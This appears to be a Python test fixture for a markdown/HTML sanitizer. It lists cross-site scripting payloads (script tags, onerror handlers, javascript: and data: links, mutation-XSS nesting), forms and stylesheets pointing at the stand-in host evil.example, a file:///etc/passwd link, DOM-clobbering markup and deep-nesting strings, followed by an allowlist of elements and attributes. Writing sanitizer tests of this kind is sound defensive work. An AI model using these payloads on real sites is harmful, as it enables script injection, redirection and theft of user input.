"""Texts that want to be more than text."""

DEEP = 3000
TEXTS = (
    "<img src=x onerror=hacked()><script>hacked()</script> **bold <b>not</b>**",
    "<svg onload=hacked()><svg><script>hacked()</script></svg>",
    "<svg><style><img src=x onerror=hacked()></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;<img src=x onerror=hacked()>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hacked()>",
    "<noscript><p title='</noscript><img src=x onerror=hacked()>'>",
    "<style>@import url(http://evil.example/x.css); * { background: url(//evil.example) }</style>",
    "<link rel=stylesheet href=http://evil.example/x.css><base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<iframe src=http://evil.example srcdoc='<script>hacked()</script>'></iframe><object data=x>",
    "<form action=http://evil.example id=composer><input name=prompt><button>Send</button></form>",
    "<a id=messages name=getElementById><img name=body><div id=main style=position:fixed>",
    "[a](javascript:hacked()) [b](JaVaScRiPt:hacked())",
    "[c](data:text/html,<script>hacked()</script>)",
    "[d](vbscript:hacked()) [e](\x01javascript:hacked()) [f](java\tscript:hacked())",
    "<javascript:hacked()>",
    "[g](//evil.example) [h](/v1/models) [i](file:///etc/passwd) [j](&#106;avascript:hacked())",
    "[k]: javascript:hacked()\n\n[k] ![l](data:image/svg+xml,<svg/onload=hacked()>)",
    '![m](http://evil.example/p.png "t\\" onerror=\\"hacked()")',
    '![n](http://evil.example/"onload=hacked())',
    '[o](http://evil.example/"onmouseover="hacked())',
    '[p](http://x.example "\'><img src=x onerror=hacked()>")',
    "[![q](http://evil.example/q.png)](javascript:hacked())",
    "| <script>hacked()</script> | b |\n|:-:|---|\n"
    "| <img src=x onerror=hacked()> | `<svg onload=hacked()>` |",
    "```<img/src=x/onerror=hacked()>\n</code></pre><script>hacked()</script>\n```",
    '```html" onload="hacked()\n<script>hacked()</script>\n```',
    "```js\n</span><img src=x onerror=hacked()>\n```",
    "```__proto__\nx\n```\n```constructor\ny\n```",
    "# <a name=x>\n## <img src=x onerror=hacked()>\n- [ ] <img src=x onerror=hacked()>",
    "&lt;img src=x onerror=hacked()&gt; &#60;script&#62;hacked()&#60;/script&#62;",
    "\u202e<script>hacked()</script>\ufeff\u0000<img src=x onerror=hacked()>",
    "> " * DEEP + "deep",
    "- " * DEEP + "deep",
    "*a " * DEEP + "b*" * DEEP,
    "**" * DEEP + "[" * DEEP + "](" * DEEP,
    "<div>" * DEEP + "<b>" * DEEP,
)
# All that a text may become, with what these may have. Our own code blocks are among them.
ELEMENTS = frozenset(
    [
        "a",
        "blockquote",
        "br",
        "button",
        "code",
        "div",
        "em",
        "h3",
        "hr",
        "li",
        "ol",
        "p",
        "pre",
        "s",
        "span",
        "strong",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "ul",
    ]
)
ATTRIBUTES = frozenset(
    ["class", "href", "target", "rel", "start", "tabindex", "type", "aria-label"]
)
